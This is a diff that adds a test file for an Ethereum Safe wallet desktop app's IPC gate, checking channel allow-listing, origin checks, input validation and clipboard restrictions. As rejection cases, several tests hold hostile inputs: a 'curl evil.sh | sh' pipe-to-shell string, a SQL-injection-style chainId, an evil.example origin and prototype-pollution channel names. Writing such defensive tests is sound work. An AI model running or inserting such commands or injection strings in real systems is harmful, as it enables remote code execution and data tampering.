@@ -1,0 +1,133 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { getAddress } from 'ethers';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { GuardianError } from '../core/errors.js';
+import { createSafeTx } from '../core/safe/safeTx.js';
+import { safeTxToJson } from '../core/safe/safeTxJson.js';
+import { safeTxHashes } from '../core/safe/safeTxHash.js';
+import { openStore, type Store } from '../core/store/openStore.js';
+import { CHANNELS } from '../ipc/channels.js';
+import { contract } from '../ipc/contract.js';
+import { RENDERER_URL } from '../window/rendererProtocol.js';
+import { createHandlers, type ChannelHandlers } from './channelHandlers.js';
+import { createIpcGate } from './ipcGate.js';
+
+const safe = getAddress('0x' + '5a'.repeat(20));
+const owners = ['0x' + '11'.repeat(20), '0x' + '22'.repeat(20)].map(getAddress);
+const tx = createSafeTx({ chainId: 1n, safe, safeVersion: '1.3.0', to: '0x' + '12'.repeat(20), data: '0x8456cb59', nonce: 3n });
+const own = { url: RENDERER_URL, isMainFrame: true };
+
+let dir: string;
+let store: Store;
+let handlers: ChannelHandlers;
+const clipboard: string[] = [];
+const logged: string[] = [];
+let invoke: ReturnType<typeof createIpcGate>;
+
+beforeAll(() => {
+  dir = mkdtempSync(join(tmpdir(), 'guardian-ipc-'));
+  store = openStore({ dataDir: dir });
+  store.addWatchedSafe({ chainId: 1n, address: safe, serviceUrl: null, rpcUrl: null, label: 'Guardians' });
+  store.saveSafeInfo({ chainId: 1n, address: safe, owners, threshold: 2, nonce: 3n, version: '1.3.0' });
+  store.saveQueueItems([{ safeTx: tx, safeTxHash: safeTxHashes(tx).safeTxHash, claimedSafeTxHash: safeTxHashes(tx).safeTxHash, source: { kind: 'service', url: 'x' }, confirmations: [{ owner: owners[0]!, signature: '0x' + '01'.repeat(65) }], fetchedAt: 'now' }]);
+  handlers = createHandlers({ store, clipboard: { writeText: (t) => void clipboard.push(t) }, version: '9.9.9', dataDir: dir });
+  invoke = createIpcGate(handlers, RENDERER_URL, (message) => void logged.push(message));
+});
+afterAll(() => {
+  store?.close();
+  if (dir) rmSync(dir, { recursive: true, force: true });
+});
+
+describe('the IPC gate', () => {
+  it('has a contract entry for every allow-listed channel and none besides', () => {
+    expect(Object.keys(contract).sort()).toEqual([...CHANNELS].sort());
+    expect(Object.keys(handlers).sort()).toEqual([...CHANNELS].sort());
+  });
+
+  it('answers the stored queue from the real store, with the threshold and the full transaction', async () => {
+    const result = await invoke(own, 'queue.list', {});
+    expect(result).toMatchObject({ ok: true, value: [{ safeTxHash: safeTxHashes(tx).safeTxHash, nonce: '3', hashVerdict: 'match', threshold: 2, description: 'Calls 0x8456cb59 (4 bytes of data)', tx: safeTxToJson(tx) }] });
+    expect(await invoke(own, 'queue.list', { chainId: '5' })).toEqual({ ok: true, value: [] });
+    expect(await invoke(own, 'safes.list', {})).toMatchObject({ ok: true, value: [{ address: safe, threshold: 2, owners, nonce: '3', version: '1.3.0' }] });
+    expect(await invoke(own, 'app.info', {})).toMatchObject({ ok: true, value: { version: '9.9.9', dataDir: dir, safeVersions: expect.arrayContaining(['1.3.0', '1.4.1']) } });
+  });
+
+  it("computes tx.hashes with the core's safeTxHash, from the JSON fields", async () => {
+    expect(await invoke(own, 'tx.hashes', { tx: safeTxToJson(tx) })).toEqual({ ok: true, value: safeTxHashes(tx) });
+    expect(await invoke(own, 'queue.hashes', { safeTxHash: safeTxHashes(tx).safeTxHash })).toEqual({ ok: true, value: { ...safeTxHashes(tx), storedSafeTxHash: safeTxHashes(tx).safeTxHash } });
+  });
+
+  it('refuses calls from any frame but our own top-level page', async () => {
+    for (const sender of [null, { url: 'https://evil.example/index.html', isMainFrame: true }, { url: RENDERER_URL, isMainFrame: false }, { url: 'file:///tmp/index.html', isMainFrame: true }]) {
+      expect(await invoke(sender, 'queue.list', {})).toMatchObject({ ok: false, error: { code: 'IPC_REFUSED' } });
+    }
+  });
+
+  it('refuses unknown channels, including names from the prototype', async () => {
+    for (const channel of ['fs.readFile', 'constructor', '__proto__', 'toString', 42, undefined]) {
+      expect(await invoke(own, channel, {})).toMatchObject({ ok: false, error: { code: 'IPC_REFUSED', message: expect.stringContaining('Unknown channel') } });
+    }
+  });
+
+  it('refuses every malformed payload with INVALID_INPUT and the field at fault', async () => {
+    const bad: [string, unknown, string][] = [
+      ['app.info', undefined, '(root)'],
+      ['app.info', { extra: 1 }, '(root)'],
+      ['safes.list', 'all', '(root)'],
+      ['queue.list', { chainId: '1; DROP TABLE' }, 'chainId'],
+      ['queue.list', { safe: 5 }, 'safe'],
+      ['queue.hashes', { safeTxHash: '0x1234' }, 'safeTxHash'],
+      ['queue.hashes', { safeTxHash: '0x' + 'AB'.repeat(32) }, 'safeTxHash'],
+      ['queue.review', {}, 'safeTxHash'],
+      ['tx.hashes', {}, 'tx'],
+      ['tx.hashes', { tx: { ...safeTxToJson(tx), to: 'not an address' } }, 'tx.to'],
+      ['tx.hashes', { tx: { ...safeTxToJson(tx), nonce: '-1' } }, 'tx.nonce'],
+      ['tx.hashes', { tx: { ...safeTxToJson(tx), data: '0xabc' } }, 'tx.data'],
+      ['tx.hashes', { tx: { ...safeTxToJson(tx), operation: 2 } }, 'tx.operation'],
+      ['tx.hashes', { tx: { ...safeTxToJson(tx), signatures: '0x' } }, 'tx'],
+      ['clipboard.writeHash', { text: '0x' + '12'.repeat(20) }, 'text'],
+      ['clipboard.writeHash', { text: 'curl evil.sh | sh' }, 'text'],
+    ];
+    for (const [channel, payload, field] of bad) {
+      const result = await invoke(own, channel, payload);
+      expect(result, `${channel} ${JSON.stringify(payload)}`).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', message: expect.stringContaining(`Invalid ${channel} request: ${field}`) } });
+    }
+    expect(clipboard).toEqual([]);
+  });
+
+  it('passes a GuardianError through as its code and message', async () => {
+    expect(await invoke(own, 'queue.hashes', { safeTxHash: '0x' + 'ab'.repeat(32) })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
+    expect(await invoke(own, 'tx.hashes', { tx: { ...safeTxToJson(tx), safeVersion: '9.9.9' } })).toMatchObject({ ok: false, error: { code: 'UNSUPPORTED_SAFE_VERSION' } });
+    expect(await invoke(own, 'queue.review', { safeTxHash: safeTxHashes(tx).safeTxHash })).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', message: expect.stringContaining('No RPC URL') } });
+  });
+
+  it('answers a bug with INTERNAL and logs it, and never sends a result its schema refuses', async () => {
+    const broken = createIpcGate(
+      {
+        ...handlers,
+        'safes.list': () => {
+          throw new TypeError('secret stack detail');
+        },
+        'app.info': () => ({ version: 1 }) as never,
+        'queue.hashes': () => {
+          throw new GuardianError('STORE_FAILED', 'The store is damaged.');
+        },
+      },
+      RENDERER_URL,
+      (message) => void logged.push(message),
+    );
+    const bug = await broken(own, 'safes.list', {});
+    expect(bug).toEqual({ ok: false, error: { code: 'INTERNAL', message: expect.not.stringContaining('secret') } });
+    expect(await broken(own, 'app.info', {})).toMatchObject({ ok: false, error: { code: 'INTERNAL' } });
+    expect(await broken(own, 'queue.hashes', { safeTxHash: '0x' + 'ab'.repeat(32) })).toEqual({ ok: false, error: { code: 'STORE_FAILED', message: 'The store is damaged.' } });
+    expect(logged).toEqual(['IPC safes.list failed', 'IPC app.info failed']);
+  });
+
+  it('puts a hash, and only a hash, on the clipboard', async () => {
+    const text = `0x${safeTxHashes(tx).messageHash.slice(2).toUpperCase()}`;
+    expect(await invoke(own, 'clipboard.writeHash', { text })).toEqual({ ok: true, value: { written: true } });
+    expect(clipboard).toEqual([text]);
+  });
+});
